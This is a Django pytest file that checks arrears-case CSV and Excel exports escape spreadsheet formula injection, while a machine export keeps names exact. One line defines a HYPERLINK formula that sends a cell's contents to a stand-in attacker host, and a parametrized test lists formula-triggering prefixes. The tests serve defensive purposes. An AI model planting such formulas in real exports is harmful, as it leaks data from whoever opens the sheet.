"""The exports for people never run what a name holds (OWASP CSV injection); the machine
interface `export_cases` keeps the name exact."""

import csv
import io

import pytest
from django.core.management import call_command
from django.urls import reverse
from openpyxl import load_workbook

from kernel.spreadsheets import csv_cell
from replenish.departments import COLLECTION
from replenish.models import ArrearsCase
from tests.factories import ArrearsRowFactory, department_user, go_bankrupt, import_rows

pytestmark = pytest.mark.django_db
ATTACK = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'


@pytest.fixture
def hostile_obligor():
    """A bankrupt unit whose liquidation group (the obligor, exported by name) is a formula."""
    import_rows([ArrearsRowFactory(unit_no=1, person_no=1, unit_name=ATTACK)])
    return go_bankrupt(ArrearsCase.objects.get())


@pytest.fixture
def collection(client):
    client.force_login(department_user(COLLECTION))
    return client


def test_the_csv_export_escapes_a_name_that_is_a_formula(collection, hostile_obligor):
    response = collection.get(reverse("admin:replenish_arrearscase_export_csv"))

    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    obligor = rows[1][2]
    assert obligor == "'" + hostile_obligor.obligor.name
    assert rows[1][4] == "1000.00"  # amounts stay plain numbers


def test_the_excel_export_writes_a_name_that_is_a_formula_as_text(collection, hostile_obligor):
    response = collection.get(reverse("admin:replenish_arrearscase_export_xlsx"))

    sheet = load_workbook(io.BytesIO(response.content)).active
    cell = sheet.cell(row=2, column=3)
    assert (cell.value, cell.data_type) == (hostile_obligor.obligor.name, "s")
    assert sheet.cell(row=2, column=5).data_type == "n"


def test_export_cases_keeps_the_name_exact(hostile_obligor):
    out = io.StringIO()
    call_command("export_cases", stdout=out, stderr=io.StringIO())

    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert rows[1][2] == hostile_obligor.obligor.name


@pytest.mark.parametrize(
    ("value", "shown"),
    [
        ("=1+1", "'=1+1"),
        ("+1+1", "'+1+1"),
        ("-1+1", "'-1+1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-5.00", "-5.00"),
        ("1000.00", "1000.00"),
        ("清算组", "清算组"),
    ],
)
def test_a_cell_a_spreadsheet_would_evaluate_is_prefixed(value, shown):
    assert csv_cell(value) == shown
